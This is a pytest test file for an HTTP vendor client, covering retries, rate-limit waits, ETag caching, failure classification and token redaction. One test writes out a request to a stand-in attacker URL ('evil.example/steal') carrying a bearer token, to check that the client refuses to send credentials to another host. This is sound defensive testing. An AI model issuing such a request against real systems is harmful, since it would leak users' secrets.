"""VendorClient against scripted fake vendors: no network, and a fake clock whose
sleeps only move time forward, so no test waits for real."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from email.utils import format_datetime
from typing import Any

import httpx
import orjson
import pytest

from connectors.base.http import (
    FAILURE_RULES,
    GITHUB_RATE_LIMIT,
    LINEAR_RATE_LIMIT,
    Action,
    CachedResponse,
    ConditionalCache,
    FailureType,
    RetryPolicy,
    VendorClient,
    VendorError,
    classify,
    redact_url,
)

BASE = "https://api.github.com"
NOW = 1_700_000_000.0
TOKEN = "ghp_s3cr3tTOKENvalue"

Reply = httpx.Response | Exception


class Fake:
    """A clock whose sleeps only move it forward, and the scripted vendors of one test."""

    def __init__(self) -> None:
        self.now = NOW
        self.sleeps: list[float] = []
        self.vendors: list[Vendor] = []

    def clock(self) -> float:
        return self.now

    async def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.now += seconds

    def vendor(self, *replies: Reply) -> Vendor:
        self.vendors.append(Vendor(self, replies))
        return self.vendors[-1]


class Vendor:
    """Answers each request with the next scripted reply, and records the requests."""

    def __init__(self, fake: Fake, replies: tuple[Reply, ...]) -> None:
        self.fake = fake
        self.replies = list(replies)
        self.requests: list[httpx.Request] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        assert self.replies, f"unexpected request {request.method} {request.url}"
        reply = self.replies.pop(0)
        if isinstance(reply, Exception):
            raise reply
        return reply

    def client(self, base_url: str = BASE, **options: Any) -> VendorClient:
        options.setdefault("vendor", "GitHub")
        return VendorClient(
            base_url,
            transport=httpx.MockTransport(self),
            sleep=self.fake.sleep,
            clock=self.fake.clock,
            **options,
        )


@pytest.fixture
def fake() -> Iterator[Fake]:
    fake = Fake()
    yield fake
    # Like a strict HTTP double: a scripted answer nobody asked for fails the test.
    assert [vendor.replies for vendor in fake.vendors] == [[] for _ in fake.vendors]


def ok(body: Any = None, **headers: str) -> httpx.Response:
    return status(200, [] if body is None else body, **headers)


def status(code: int, body: Any = None, **headers: str) -> httpx.Response:
    content = b"" if body is None else orjson.dumps(body)
    return httpx.Response(code, content=content, headers=headers)


async def test_retries_a_502_then_returns_the_success(fake: Fake) -> None:
    vendor = fake.vendor(status(502), status(502), ok([{"id": 1}]))
    async with vendor.client() as client:
        data, response = await client.request_json("GET", "/repos/acme/api/issues")
    assert data == [{"id": 1}]
    assert response.status_code == 200
    assert (client.requests, client.retries) == (3, 2)
    assert len(fake.sleeps) == 2


@pytest.mark.parametrize(
    "error",
    [
        httpx.ConnectError("connection refused"),
        httpx.ReadTimeout("read timed out"),
        httpx.RemoteProtocolError("peer closed connection"),
    ],
)
async def test_retries_network_failures(fake: Fake, error: Exception) -> None:
    vendor = fake.vendor(error, ok([1]))
    async with vendor.client() as client:
        data, _ = await client.request_json("GET", "/x")
    assert data == [1]
    assert client.requests == 2


async def test_gives_up_after_max_attempts_as_transient_with_bounded_backoff(
    fake: Fake,
) -> None:
    retry = RetryPolicy(max_attempts=4, base_delay=1.0, max_delay=3.0)
    vendor = fake.vendor(*(status(503) for _ in range(4)))
    async with vendor.client(retry=retry) as client:
        with pytest.raises(VendorError) as caught:
            await client.request("GET", "/x")
    assert caught.value.failure_type is FailureType.TRANSIENT
    assert caught.value.status_code == 503
    assert "gave up after 4 attempts" in str(caught.value)
    assert client.requests == 4
    assert len(fake.sleeps) == 3
    assert all(0 <= d <= cap for d, cap in zip(fake.sleeps, [1.0, 2.0, 3.0], strict=True))


async def test_stops_retrying_when_total_time_would_exceed_max_total(fake: Fake) -> None:
    retry = RetryPolicy(max_total=100.0)
    vendor = fake.vendor(status(503, **{"Retry-After": "60"}), status(503, **{"Retry-After": "60"}))
    async with vendor.client(retry=retry) as client:
        with pytest.raises(VendorError) as caught:
            await client.request("GET", "/x")
    assert caught.value.failure_type is FailureType.TRANSIENT
    assert fake.sleeps == [60.0]


# Without `secrets`, the Authorization header alone must be enough to scrub the token.
@pytest.mark.parametrize("secrets", [[TOKEN], []])
async def test_401_is_a_config_error_whose_message_holds_no_secret(
    fake: Fake, secrets: list[str]
) -> None:
    echo = {"message": f"Bad credentials: {TOKEN}"}
    vendor = fake.vendor(status(401, echo))
    headers = {"Authorization": f"Bearer {TOKEN}"}
    async with vendor.client(headers=headers, secrets=secrets) as client:
        with pytest.raises(VendorError) as caught:
            await client.request(
                "GET", "/repos/acme/api/issues", params={"access_token": TOKEN, "api_key": "k-9"}
            )
    message = str(caught.value)
    assert caught.value.failure_type is FailureType.CONFIG
    assert caught.value.status_code == 401
    assert message == caught.value.message
    assert message.startswith("GitHub answered 401 Unauthorized for GET /repos/acme/api/issues?")
    assert "the token was rejected; check or replace it" in message
    assert TOKEN not in message
    assert "k-9" not in message
    assert vendor.requests[0].headers["authorization"] == f"Bearer {TOKEN}"
    assert client.requests == 1


async def test_transport_error_messages_are_scrubbed_too(fake: Fake) -> None:
    retry = RetryPolicy(max_attempts=1)
    vendor = fake.vendor(httpx.ConnectError(f"cannot reach https://x/?token={TOKEN}"))
    async with vendor.client(retry=retry, headers={"PRIVATE-TOKEN": TOKEN}) as client:
        with pytest.raises(VendorError) as caught:
            await client.request("GET", "/x")
    assert caught.value.failure_type is FailureType.TRANSIENT
    assert TOKEN not in str(caught.value)
    assert "ConnectError" in str(caught.value)


async def test_404_is_a_config_error(fake: Fake) -> None:
    vendor = fake.vendor(status(404, {"message": "Not Found"}))
    async with vendor.client() as client:
        with pytest.raises(VendorError) as caught:
            await client.request("GET", "/repos/acme/gone/issues")
    assert caught.value.failure_type is FailureType.CONFIG
    assert 'GitHub said: "Not Found"' in str(caught.value)
    assert client.requests == 1


async def test_an_expected_404_or_410_is_returned(fake: Fake) -> None:
    vendor = fake.vendor(status(404, {"message": "Not Found"}), status(410, {"message": "Gone"}))
    async with vendor.client() as client:
        missing = await client.request("GET", "/repos/a/b/issues/1", expect=(404, 410))
        data, gone = await client.request_json("GET", "/repos/a/b/issues/2", expect=(404, 410))
    assert missing.status_code == 404
    assert missing.json() == {"message": "Not Found"}
    assert (data, gone.status_code) == (None, 410)


async def test_a_400_fails_at_once_as_a_system_error(fake: Fake) -> None:
    vendor = fake.vendor(status(400, {"message": "Validation Failed"}))
    async with vendor.client() as client:
        with pytest.raises(VendorError) as caught:
            await client.request("GET", "/x")
    assert caught.value.failure_type is FailureType.SYSTEM
    assert fake.sleeps == []


async def test_429_waits_as_long_as_retry_after_says(fake: Fake) -> None:
    vendor = fake.vendor(status(429, **{"Retry-After": "7"}), ok([1]))
    async with vendor.client() as client:
        await client.request("GET", "/x")
    assert fake.sleeps == [7.0]
    assert client.retries == 1


async def test_retry_after_may_be_an_http_date(fake: Fake) -> None:
    when = format_datetime(datetime.fromtimestamp(NOW + 20, UTC), usegmt=True)
    vendor = fake.vendor(status(503, **{"Retry-After": when}), ok([1]))
    async with vendor.client() as client:
        await client.request("GET", "/x")
    assert fake.sleeps == [20.0]


async def test_403_with_no_budget_left_waits_until_the_reset(fake: Fake) -> None:
    spent = {"x-ratelimit-remaining": "0", "x-ratelimit-limit": "5000"}
    reset = {"x-ratelimit-reset": str(int(NOW) + 42)}
    vendor = fake.vendor(
        status(403, {"message": "API rate limit exceeded"}, **spent, **reset), ok([1])
    )
    async with vendor.client(rate_limit=GITHUB_RATE_LIMIT) as client:
        await client.request("GET", "/x")
    assert fake.sleeps == [43.0]


async def test_403_secondary_rate_limit_without_headers_waits_a_minute(fake: Fake) -> None:
    body = {"message": "You have exceeded a secondary rate limit. Please wait a few minutes."}
    vendor = fake.vendor(status(403, body), ok([1]))
    async with vendor.client(rate_limit=GITHUB_RATE_LIMIT) as client:
        await client.request("GET", "/x")
    assert fake.sleeps == [60.0]


async def test_linear_rate_limit_on_400_waits_until_its_millisecond_reset(fake: Fake) -> None:
    body = {"errors": [{"message": "Rate limit exceeded", "extensions": {"code": "RATELIMITED"}}]}
    headers = {
        "X-RateLimit-Requests-Remaining": "0",
        "X-RateLimit-Requests-Limit": "5000",
        "X-RateLimit-Requests-Reset": str(int((NOW + 9) * 1000)),
    }
    vendor = fake.vendor(status(400, body, **headers), ok({"data": {}}))
    async with vendor.client(rate_limit=LINEAR_RATE_LIMIT) as client:
        await client.request("POST", "/graphql", json={"query": "{ viewer { id } }"})
    assert fake.sleeps == [10.0]
    assert client.rate_limit_reset == NOW + 9


async def test_graphql_rate_limit_error_in_a_200_is_waited_out(fake: Fake) -> None:
    limited = {"errors": [{"type": "RATE_LIMITED", "message": "API rate limit exceeded"}]}
    vendor = fake.vendor(status(200, limited, **{"Retry-After": "5"}), ok({"data": {"ok": True}}))
    async with vendor.client() as client:
        data, _ = await client.request_json("POST", "/graphql", json={"query": "{}"})
    assert data == {"data": {"ok": True}}
    assert fake.sleeps == [5.0]


async def test_a_ticket_about_rate_limits_is_not_mistaken_for_one(fake: Fake) -> None:
    issue = {"errors": [], "title": '"type": "RATE_LIMITED" handling is broken'}
    vendor = fake.vendor(ok(issue))
    async with vendor.client() as client:
        data, _ = await client.request_json("GET", "/x")
    assert data == issue


async def test_a_wait_beyond_the_budget_raises_rate_limited_with_the_reset_time(
    fake: Fake,
) -> None:
    headers = {"x-ratelimit-remaining": "0", "x-ratelimit-reset": str(int(NOW) + 3599)}
    vendor = fake.vendor(status(429, {"message": "API rate limit exceeded"}, **headers))
    async with vendor.client(rate_limit=GITHUB_RATE_LIMIT) as client:
        with pytest.raises(VendorError) as caught:
            await client.request("GET", "/x")
    assert caught.value.failure_type is FailureType.RATE_LIMITED
    assert "resets at 2023-11-14 23:13:20 UTC, in 3600 s" in str(caught.value)
    assert fake.sleeps == []


async def test_spaces_requests_when_the_budget_runs_low(fake: Fake) -> None:
    low = {
        "x-ratelimit-remaining": "10",
        "x-ratelimit-limit": "5000",
        "x-ratelimit-reset": str(int(NOW) + 100),
    }
    vendor = fake.vendor(ok([1], **low), ok([2], **low))
    async with vendor.client(rate_limit=GITHUB_RATE_LIMIT) as client:
        await client.request("GET", "/x")
        assert fake.sleeps == []
        await client.request("GET", "/x")
    assert fake.sleeps == [10.0]  # 100 s to the reset, shared by the 10 requests left
    assert (client.rate_limit_remaining, client.rate_limit_limit) == (10, 5000)
    assert client.rate_limit_reset == NOW + 100


async def test_no_spacing_while_the_budget_is_healthy(fake: Fake) -> None:
    healthy = {
        "x-ratelimit-remaining": "4000",
        "x-ratelimit-limit": "5000",
        "x-ratelimit-reset": str(int(NOW) + 100),
    }
    vendor = fake.vendor(ok([1], **healthy), ok([2], **healthy))
    async with vendor.client(rate_limit=GITHUB_RATE_LIMIT) as client:
        await client.request("GET", "/x")
        await client.request("GET", "/x")
    assert fake.sleeps == []


async def test_a_304_answers_from_the_cache(fake: Fake) -> None:
    vendor = fake.vendor(
        ok([{"id": 1}], ETag='"abc"', Link='<https://api.github.com/x?page=2>; rel="next"')
    )
    vendor.replies.append(status(304, ETag='"abc"'))
    cache = ConditionalCache()
    async with vendor.client(cache=cache, cache_namespace="conn-1") as client:
        first = await client.request("GET", "/x", params={"state": "all"})
        data, second = await client.request_json("GET", "/x", params={"state": "all"})
    assert "if-none-match" not in vendor.requests[0].headers
    assert vendor.requests[1].headers["if-none-match"] == '"abc"'
    assert not first.from_cache
    assert second.from_cache
    assert (second.status_code, data) == (200, [{"id": 1}])
    assert 'rel="next"' in second.headers["link"]
    assert (client.requests, client.not_modified) == (2, 1)


async def test_the_cache_is_shared_by_clients_of_one_namespace_only(fake: Fake) -> None:
    cache = ConditionalCache()
    first = fake.vendor(ok([1], ETag='W/"v1"'))
    async with first.client(cache=cache, cache_namespace="conn-1") as client:
        await client.request("GET", "/x")
    same, other = fake.vendor(status(304)), fake.vendor(ok([2]))
    async with same.client(cache=cache, cache_namespace="conn-1") as client:
        response = await client.request("GET", "/x")
    async with other.client(cache=cache, cache_namespace="conn-2") as client:
        await client.request("GET", "/x")
    assert response.from_cache
    assert response.json() == [1]
    assert same.requests[0].headers["if-none-match"] == 'W/"v1"'
    assert "if-none-match" not in other.requests[0].headers


def test_the_cache_drops_the_least_recently_used_beyond_its_size() -> None:
    def entry(size: int) -> CachedResponse:
        return CachedResponse('"e"', 200, (), b"x" * size, "")

    cache = ConditionalCache(max_bytes=250)
    cache.put("n", "a", entry(100))
    cache.put("n", "b", entry(100))
    assert cache.get("n", "a") is not None  # now b is the least recently used
    cache.put("n", "c", entry(100))
    cache.put("n", "huge", entry(1000))
    assert [cache.get("n", key) is not None for key in "abc"] == [True, False, True]
    assert cache.get("n", "huge") is None
    assert (len(cache), cache.size_bytes) == (2, 200)


async def test_truncated_json_is_retried(fake: Fake) -> None:
    vendor = fake.vendor(
        httpx.Response(200, content=b'[{"id": 1}, {"id'), ok([{"id": 1}, {"id": 2}])
    )
    async with vendor.client() as client:
        data, _ = await client.request_json("GET", "/x")
    assert data == [{"id": 1}, {"id": 2}]
    assert (client.requests, client.retries) == (2, 1)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("/repos/a/b/issues", "https://ghe.example.com/api/v3/repos/a/b/issues?state=all"),
        ("repos/a/b/issues", "https://ghe.example.com/api/v3/repos/a/b/issues?state=all"),
        (
            "https://ghe.example.com/api/v3/repositories/7/issues?state=all",
            "https://ghe.example.com/api/v3/repositories/7/issues?state=all",
        ),
    ],
)
async def test_joins_paths_under_a_base_path(fake: Fake, url: str, expected: str) -> None:
    vendor = fake.vendor(ok())
    async with vendor.client(base_url="https://ghe.example.com/api/v3") as client:
        params = None if url.startswith("https:") else {"state": "all"}
        await client.request("GET", url, params=params)
    assert str(vendor.requests[0].url) == expected


async def test_an_absolute_url_is_followed_verbatim(fake: Fake) -> None:
    link = "https://api.github.com/repositories/7/issues?after=Y3Vy+c29y%2F==&labels=a,b"
    vendor = fake.vendor(ok())
    async with vendor.client() as client:
        await client.request("GET", link)
    assert str(vendor.requests[0].url) == link


async def test_refuses_to_send_credentials_to_another_host(fake: Fake) -> None:
    vendor = fake.vendor()
    async with vendor.client(headers={"Authorization": f"Bearer {TOKEN}"}) as client:
        with pytest.raises(VendorError) as caught:
            await client.request("GET", f"https://evil.example/steal?token={TOKEN}")
    assert caught.value.failure_type is FailureType.SYSTEM
    assert TOKEN not in str(caught.value)
    assert vendor.requests == []


@pytest.mark.parametrize(
    ("cause", "exhausted", "action", "failure_type"),
    [
        (httpx.ConnectError("x"), False, Action.RETRY, FailureType.TRANSIENT),
        (httpx.ReadTimeout("x"), False, Action.RETRY, FailureType.TRANSIENT),
        (httpx.RemoteProtocolError("x"), False, Action.RETRY, FailureType.TRANSIENT),
        (orjson.JSONDecodeError("x", "", 0), False, Action.RETRY, FailureType.TRANSIENT),
        (httpx.UnsupportedProtocol("x"), False, Action.FAIL, FailureType.CONFIG),
        (500, False, Action.RETRY, FailureType.TRANSIENT),
        (502, False, Action.RETRY, FailureType.TRANSIENT),
        (503, False, Action.RETRY, FailureType.TRANSIENT),
        (504, False, Action.RETRY, FailureType.TRANSIENT),
        (429, False, Action.WAIT, FailureType.RATE_LIMITED),
        (403, True, Action.WAIT, FailureType.RATE_LIMITED),
        (403, False, Action.FAIL, FailureType.CONFIG),
        (401, False, Action.FAIL, FailureType.CONFIG),
        (404, False, Action.FAIL, FailureType.CONFIG),
        (410, False, Action.FAIL, FailureType.CONFIG),
        (400, False, Action.FAIL, FailureType.SYSTEM),
        (422, False, Action.FAIL, FailureType.SYSTEM),
        (302, False, Action.FAIL, FailureType.SYSTEM),
    ],
)
def test_the_failure_table(
    cause: BaseException | int, exhausted: bool, action: Action, failure_type: FailureType
) -> None:
    rule = classify(cause, exhausted=exhausted)
    assert (rule.action, rule.failure_type) == (action, failure_type)
    assert rule in FAILURE_RULES


def test_redact_url_masks_secret_looking_query_values() -> None:
    url = "https://h/x?page=2&access_token=abc&api_key=def&private_token=ghi&state=all"
    assert redact_url(url) == (
        "https://h/x?page=2&access_token=***&api_key=***&private_token=***&state=all"
    )
